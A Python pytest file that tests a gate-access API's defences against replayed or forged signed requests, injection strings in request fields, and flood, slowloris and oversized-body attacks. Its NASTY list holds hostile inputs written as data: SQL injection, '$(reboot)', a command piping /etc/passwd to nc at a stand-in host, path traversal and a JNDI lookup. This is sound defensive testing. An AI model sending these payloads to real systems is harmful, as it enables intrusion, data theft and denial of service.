"""Whoever sits on the line, or holds a stolen reader: refused, and nobody else is slower for it. Against the gates' own server."""

from __future__ import annotations

import json
import socket
import threading
import time
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from access.api.views import MOST_BYTES
from access.models import EntryEvent, Gate
from access.signing import server_key
from gate import wire
from gate.client import Client, Identity
from tests import make
from tests.live import Live

PATH = "/api/gate/v1/"
NASTY = [
    "'; DROP TABLE access_gate; --",
    "$(reboot)",
    "`id`; cat /etc/passwd | nc example.org 1",
    "../../etc/passwd",
    "%00%0a%0d",
    "\u202e\U0001f480" * 9,
    "{{7*7}}${jndi:ldap://example.org/a}",
]


@pytest.fixture
def door(live: Live) -> Gate:
    return make.gate(make.neighborhood(), at=datetime.now(UTC))


@pytest.fixture
def reader(door: Gate) -> make.Reader:
    return make.device(door)


def signed(
    reader: make.Reader, path: str, *, method: str = "GET", query: str = "", body: bytes = b"", **bent: Any
):
    headers = wire.sign_request(
        key=bent.get("key", reader.key),
        method=method,
        path=PATH + path,
        query=query,
        body=body,
        created=bent.get("created", int(time.time())),
        keyid=bent.get("keyid", str(reader.device.pk)),
        nonce=wire.new_nonce(),
    )
    return headers | ({"Content-Type": "application/json"} if body else {})


def code(answer: httpx.Response) -> str:
    return str(answer.json()["type"]).rpartition(":")[2]


@pytest.mark.obligation("F20")
def test_what_was_not_signed_just_now_by_this_device_for_this_very_question_is_refused(live, door, reader):
    url = live.gates() + PATH
    other = make.device(door)
    good = signed(reader, "feed", query="limit=5")
    with httpx.Client() as line:
        assert line.get(f"{url}feed?limit=5", headers=good).status_code == 200
        again = line.get(f"{url}feed?limit=5", headers=good)
        assert (again.status_code, code(again)) == (401, "replayed")
        bent = {
            "signature-wrong": [
                ("feed?limit=6", signed(reader, "feed", query="limit=5")),
                ("feed", signed(reader, "feed", key=other.key)),
                ("feed", signed(reader, "feed", keyid=str(other.device.pk))),
                ("feed", signed(reader, "feed", method="POST")),
            ],
            "clock-skew": [("feed", signed(reader, "feed", created=int(time.time()) - 600))],
            "device-unknown": [
                ("feed", signed(reader, "feed", keyid="x")),
                ("feed", signed(reader, "feed", keyid="0" * 36)),
            ],
            "signature-missing": [("feed", {})],
            "digest-mismatch": [("feed", signed(reader, "feed", body=b"{}"))],
            "signature-malformed": [("feed", good | {"Signature": "linmen=:AAAA:"})],
        }
        for wanted, attempts in bent.items():
            for path, headers in attempts:
                answer = line.get(url + path, headers=headers)
                assert 400 <= answer.status_code < 500, wanted
                assert code(answer) == wanted
                assert (
                    "Signature" not in answer.headers
                )  # nobody is known, so nobody is told anything for sure
        # A cursor of another device, and one made up.
        mine = line.get(f"{url}feed", headers=signed(reader, "feed")).json()["cursor"]
        for cursor, wanted in (
            (mine, "cursor-not-yours"),
            ("f0.aaaaaaaaaaaaaaaaaaaaaa", "cursor-not-yours"),
            ("f0", "cursor-malformed"),
        ):
            answer = line.get(
                f"{url}feed?cursor={cursor}", headers=signed(other, "feed", query=f"cursor={cursor}")
            )
            assert code(answer) == wanted


@pytest.mark.obligation("F20", "F3")
def test_text_of_sql_or_a_shell_in_any_field_is_text_or_refused(live, reader):
    url = live.gates() + PATH
    event = {
        "sequence": 1,
        "at": "2026-05-01T08:00:00Z",
        "kind": "card",
        "credential": None,
        "outcome": "opened",
        "reason": "",
    }
    bodies: list[tuple[str, dict[str, Any]]] = []
    for text in NASTY:
        bodies += [
            ("events", {"boot": text, "events": []}),
            ("receipts", {"receipts": text}),
            ("keys", dict.fromkeys(("public_key", "sealing_key", "proof"), text)),
        ]
        bodies += [
            ("events", {"boot": str(reader.device.pk), "events": [event | {name: text}]}) for name in event
        ]
        bodies += [
            ("receipts", {"receipts": [{"credential": text, "version": text, "erased_at": text}]}),
            ("events", {text: text}),
        ]
    with httpx.Client() as line:
        for path, said in bodies:
            body = json.dumps(said).encode()
            answer = line.post(
                url + path, content=body, headers=signed(reader, path, method="POST", body=body)
            )
            assert (answer.status_code, code(answer)) == (400, "malformed"), said
        for text in NASTY:
            query = str(httpx.QueryParams({"cursor": text, "limit": "5"}))
            answer = line.get(f"{url}feed?{query}", headers=signed(reader, "feed", query=query))
            assert code(answer) == "cursor-malformed"
            query = str(httpx.QueryParams({"limit": text}))
            answer = line.get(f"{url}feed?{query}", headers=signed(reader, "feed", query=query))
            assert code(answer) == "malformed"
    assert not EntryEvent.objects.exists()


@pytest.mark.obligation("F20")
def test_neither_a_flood_nor_slow_and_endless_bodies_keep_anybody_out(live, reader):
    url = live.gates()
    host, _, port = url.removeprefix("http://").partition(":")
    slow = [socket.create_connection((host, int(port))) for _ in range(30)]
    for number, each in enumerate(slow):
        path = "events" if number % 2 else "pair"
        each.sendall(
            f"POST {PATH}{path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1000\r\n\r\n{{".encode()
        )
    endless = socket.create_connection((host, int(port)))
    endless.sendall(
        f"POST {PATH}events HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {MOST_BYTES * 100}\r\n\r\n".encode()
    )
    stop = threading.Event()

    def flood() -> None:
        stranger = Ed25519PrivateKey.generate()
        with httpx.Client() as line:
            while not stop.is_set():
                line.get(f"{url}{PATH}feed", headers=signed(reader, "feed", key=stranger))

    strangers = [threading.Thread(target=flood, daemon=True) for _ in range(4)]
    for each in strangers:
        each.start()
    client = Client(url)
    who = Identity(str(reader.device.pk), reader.key, server_key().public_key())
    try:
        for _ in range(10):
            began = time.monotonic()
            assert client.get(who, "feed", {})["rows"] == []
            assert client.post(who, "receipts", {"receipts": []})["accepted"] == 0
            assert time.monotonic() - began < 20
        endless.settimeout(30)
        said = endless.recv(4096).decode()
        assert said.startswith("HTTP/1.1 413"), said  # before a byte of it was read
        body = b'{"receipts": [' + b" " * MOST_BYTES + b"]}"
        with httpx.Client() as line:
            answer = line.post(
                f"{url}{PATH}receipts",
                content=body,
                headers=signed(reader, "receipts", method="POST", body=body),
            )
            assert (answer.status_code, code(answer)) == (413, "too-large")
        slow[0].settimeout(40)
        assert slow[0].recv(4096).startswith(b"HTTP/1.1 408")
    finally:
        stop.set()
        for each in (*slow, endless):
            each.close()
        for each in strangers:
            each.join(20)
        client.close()
